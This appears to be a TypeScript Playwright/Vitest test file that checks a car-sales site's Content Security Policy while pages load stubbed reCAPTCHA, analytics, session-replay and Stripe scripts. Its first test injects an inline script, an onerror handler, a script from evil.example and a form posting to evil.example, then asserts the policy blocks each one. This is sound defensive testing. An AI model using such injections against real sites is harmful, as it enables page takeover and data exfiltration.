import type { BrowserContextOptions, Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { RegionManifest } from '#contracts/types.ts';
import { VARIABLES } from '#server/config/variables.ts';
import { type FakeService, openFakeService } from '../fake-service.ts';
import { openFakeStripe } from '../payments/fake-stripe.ts';
import { browserForTests, waitForHydration } from './browser.ts';
import { choose } from './pay-in-browser.ts';
import { openPayingSite, type PayingSite } from './paying-site.ts';

// policy violations are console errors, so every browser test of a page covers its policy
const { open, allowConsole } = browserForTests();
declare global {
  interface Window {
    onViolation?: (refusal: string) => void;
  }
}

/** Reports all policy violations of a page to the test. */
function reportViolations(): void {
  document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, documentURI }) =>
    window.onViolation?.(`${violatedDirective} ${blockedURI} on ${documentURI}`),
  );
}

/** Opens an empty page; violations of pages it shows are added to `refused`. */
async function openWatched(refused: string[], context: BrowserContextOptions = {}): Promise<Page> {
  const page = await open('about:blank', { context });
  await page.exposeFunction('onViolation', (refusal: string) => void refused.push(refusal));
  await page.addInitScript(reportViolations);
  return page;
}

test('injected scripts do not run and forms do not leave the site (HARDENING A08)', async () => {
  allowConsole(/Content Security Policy/);
  const refused: string[] = [];
  const page = await openWatched(refused);
  await page.goto('/sg/en');
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.text = 'document.title = "taken over"';
    const picture = document.createElement('img');
    picture.setAttribute('onerror', 'document.title = "taken over"');
    picture.src = 'data:,';
    const foreign = document.createElement('script');
    foreign.src = 'https://evil.example/x.js';
    const form = document.createElement('form');
    form.action = 'https://evil.example/';
    document.body.append(script, picture, foreign, form);
    form.submit();
  });
  await expect
    .poll(() => refused.map((refusal) => refusal.split(' ', 1)[0]).sort())
    .toEqual(['form-action', 'script-src-attr', 'script-src-elem', 'script-src-elem']);
  expect(await page.title()).not.toBe('taken over');
});

test('the API documentation works under its policy', async () => {
  const refused: string[] = [];
  const page = await openWatched(refused);
  await page.goto('/api/docs/');
  await page.getByText('/api/v1/rabbit/{region}/listings', { exact: true }).waitFor();
  expect(refused).toEqual([]);
});

/** Loads a picture, a frame, another script and data, as scripts of third parties do. */
const LOADS = `
  const frame = (src) => document.body.append(Object.assign(document.createElement('iframe'), { src }));
  const script = (src) => document.head.append(Object.assign(document.createElement('script'), { src }));
  const data = (url) => fetch(url).then((answer) => answer.text());
`;

/** Scripts of third parties by their address; every other address of theirs has an empty answer. */
const SCRIPTS: Readonly<Record<string, string>> = {
  'https://www.google.com/recaptcha/api.js': `
    script('https://www.gstatic.com/recaptcha/releases/1/recaptcha__en.js');
    frame('https://www.google.com/recaptcha/api2/anchor');
    frame('https://recaptcha.google.com/recaptcha/api2/bframe');
    window.grecaptcha = {
      ready: (then) => then(),
      execute: () => data('https://www.google.com/recaptcha/api2/reload').then(() => 'good-token'),
    };`,
  'https://tags.example/gtm.js': `
    script('https://eu.analytics.example/tag.js');
    data('https://eu.analytics.example/collect');`,
  'https://replay.example/replay.js': `
    window.sessionReplay = { start: () => data('https://replay.example/record').then(() => {}), stop() {} };`,
  'https://js.stripe.com/v3/': `
    window.Stripe = () => ({
      elements: () => ({
        create: () => ({
          mount() {
            frame('https://js.stripe.com/v3/elements-inner-payment.html');
            frame('https://b.stripecdn.js.stripe.com/inner.html');
          },
          on: (event, then) => event === 'ready' && data('https://api.stripe.com/v1/elements').then(then),
          destroy() {},
        }),
      }),
      async confirmPayment() {
        frame('https://hooks.stripe.com/redirect/authenticate');
        return {};
      },
    });`,
};

const BY_STRIPE = {
  provider: 'stripe',
  stripe: {
    secretKeyEnv: 'STRIPE_SECRET_KEY',
    publishableKeyEnv: 'STRIPE_PUBLISHABLE_KEY',
    webhookSecretEnv: 'STRIPE_WEBHOOK_SECRET',
  },
} as const;

describe('pages with every third party', () => {
  let paying: PayingSite;
  let captcha: FakeService;
  let stripe: Awaited<ReturnType<typeof openFakeStripe>>;

  beforeAll(async () => {
    captcha = await openFakeService();
    captcha.answer = () => ({
      status: 200,
      body: JSON.stringify({ success: true, action: 'request_code', hostname: 'localhost', score: 0.9 }),
    });
    stripe = await openFakeStripe();
    const values = {
      CAPTCHA_SITE_KEY: 'site',
      SESSION_REPLAY_KEY: 'replay',
      TAG_MANAGER_ID_MY: 'GTM-1',
      STRIPE_SECRET_KEY: 'sk_test_1',
      STRIPE_PUBLISHABLE_KEY: 'pk_test_1',
      STRIPE_WEBHOOK_SECRET: 'whsec_1',
      ERROR_MONITORING_DSN: 'http://key@127.0.0.1:9/1',
    };
    paying = await openPayingSite('my', {
      change: withThirdParties,
      manifestNames: Object.keys(values),
      environment: {
        ...values,
        CAPTCHA_SECRET: 'secret',
        CAPTCHA_API: captcha.url,
        TAG_MANAGER_URL: 'https://tags.example/gtm.js',
        SESSION_REPLAY_URL: 'https://replay.example/replay.js',
        STRIPE_API: stripe.service.url.replace(/\/$/, ''),
        PICTURE_HOST: 'cdn.example',
        PAGE_HOSTS: [VARIABLES.pageHosts.default, 'https://*.analytics.example'].join(),
      },
    });
  }, 600_000);
  afterAll(async () => {
    await paying?.site.close();
    await Promise.all([captcha?.stop(), stripe?.service.stop()]);
  });

  const withThirdParties = (manifest: RegionManifest): RegionManifest => ({
    ...manifest,
    contact: { ...manifest.contact, messagingApp: 'line', messagingNumber: '@forecourt' },
    tracking: { ...manifest.tracking, hosts: ['https://*.analytics.example'] },
    ...(manifest.payments && { payments: { ...manifest.payments, ...BY_STRIPE } }),
  });

  /** Opens a page whose third parties are answered here. @returns what was refused, and what was asked for elsewhere */
  async function visit(path: string): Promise<{ page: Page; refused: string[]; asked: Set<string> }> {
    const refused: string[] = [];
    const asked = new Set<string>();
    const page = await openWatched(refused, paying.context);
    const origin = paying.context.baseURL ?? '';
    await page.context().route(
      (url) => url.protocol.startsWith('http') && url.origin !== origin,
      (route, request) => {
        const address = request.url().replace(/\?.*/, '');
        asked.add(address);
        const type = { script: 'text/javascript', document: 'text/html', image: 'image/svg+xml' };
        const kind = request.resourceType() as keyof typeof type;
        const empty = kind === 'image' ? '<svg xmlns="http://www.w3.org/2000/svg"/>' : '';
        return route.fulfill({
          contentType: type[kind] ?? 'application/json',
          headers: { 'access-control-allow-origin': '*' },
          body: address in SCRIPTS ? `{${LOADS}${SCRIPTS[address]}}` : empty,
        });
      },
    );
    await page.goto(path);
    await waitForHydration(page);
    return { page, refused, asked };
  }

  test('log in with a captcha', async () => {
    const { page, refused, asked } = await visit('/my/en');
    await page.getByRole('banner').getByRole('button', { name: 'Log in' }).click();
    const dialog = page.getByRole('dialog', { name: 'Log in' });
    await dialog.getByLabel('Mobile number').fill(paying.newPhone());
    await page.keyboard.press('Enter');
    await dialog.getByRole('group', { name: 'Code' }).waitFor();
    expect(new URLSearchParams(captcha.asked[0]?.body).get('response')).toBe('good-token');
    await expect
      .poll(() => [...asked])
      .toEqual(
        expect.arrayContaining([
          'https://www.gstatic.com/recaptcha/releases/1/recaptcha__en.js',
          'https://www.google.com/recaptcha/api2/anchor',
          'https://recaptcha.google.com/recaptcha/api2/bframe',
        ]),
      );
    expect(refused).toEqual([]);
  });

  test('run tags and session replay, report errors, and show what is on the host of pictures', async () => {
    allowConsole(/a fault of this test|status of 50\d|status of 429/);
    const { page, refused, asked } = await visit('/my/en');
    await page.getByRole('button', { name: 'Accept all' }).click();
    await expect.poll(() => asked).toContain('https://eu.analytics.example/tag.js');
    await page.goto((await paying.pathOfCar()).replace('/cars/', '/buy-now?car='));
    await expect.poll(() => asked).toContain('https://replay.example/record');
    const report = page.waitForRequest(/\/api\/monitoring\//);
    await page.evaluate(() => {
      setTimeout(() => {
        throw new Error('a fault of this test');
      });
    });
    await report;
    // a picture and a panorama of an import
    await page.evaluate(async () => {
      const picture = new Image();
      picture.src = 'https://cdn.example/cars/1.webp';
      await picture.decode();
      await fetch('https://cdn.example/cars/1-cabin.jpg');
    });
    expect(refused).toEqual([]);
  });

  test('pay by the card form of the provider', async () => {
    // the gate is shown because the API has no transaction for a visitor
    allowConsole(/status of 404/);
    // demo cars are not sold where money moves
    await paying.site.database.pool.query('UPDATE listings SET is_demo = false');
    const { phone, transaction } = await paying.debtor();
    const { page, refused, asked } = await visit('/my/en');
    await paying.logIn(page, phone);
    await page.goto(`/my/en/payments/${transaction}`);
    await choose(page, 'Card');
    await page.getByRole('button', { name: /^Pay RM/ }).click();
    await expect.poll(() => asked).toContain('https://js.stripe.com/v3/elements-inner-payment.html');
    await page.getByRole('button', { name: /^Pay RM/ }).click();
    await expect.poll(() => asked).toContain('https://hooks.stripe.com/redirect/authenticate');
    expect(asked).toContain('https://b.stripecdn.js.stripe.com/inner.html');
    expect(asked).toContain('https://api.stripe.com/v1/elements');
    expect(refused).toEqual([]);
  });

  test.each([/line\.me/, /maps/])('lead to %s', async (host) => {
    const { page, refused, asked } = await visit('/my/en/showrooms');
    // the page of a showroom shows the way
    await page.goto((await page.locator('main a[href*="/showrooms/"]').first().getAttribute('href')) ?? '');
    const link = page.locator('a[href^="https:"]');
    const hrefs = await link.evaluateAll((links) => links.map((each) => each.getAttribute('href') ?? ''));
    const at = hrefs.findIndex((each) => host.test(each));
    if (at < 0) throw new Error(`no link to ${host}: ${hrefs}`);
    // one of them stands in a menu
    await link.nth(at).evaluate((each: HTMLAnchorElement) => each.click());
    await expect.poll(() => [...asked].some((each) => host.test(each))).toBe(true);
    expect(refused).toEqual([]);
  });
});
